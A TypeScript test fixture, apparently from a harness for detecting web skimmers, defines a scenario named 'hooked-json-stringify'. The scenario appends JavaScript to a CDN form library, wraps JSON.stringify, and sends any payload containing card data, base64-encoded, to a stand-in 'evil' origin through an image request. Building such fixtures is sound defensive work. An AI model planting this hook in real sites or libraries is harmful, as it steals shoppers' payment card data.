import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'hooked-json-stringify',
  why: "Replaces JSON.stringify: whatever the shop's own code is about to send passes through.",
  covers: ['sending: image', 'injection: third party'],
  base: 'direct',
  install: (site) =>
    site.alter(
      'cdn/form-kit/2.1.0/form-kit.min.js',
      (code) => js`${code}
(function () {
  var real = JSON.stringify;
  JSON.stringify = function (value) {
    var text = real.apply(JSON, arguments);
    if (value && value.card) new Image().src = '${site.origins.evil}/fk.png?e=' + encodeURIComponent(btoa(text));
    return text;
  };
})();`,
    ),
  proof: holds((arrived) => query(arrived, 'e').map(base64)),
});
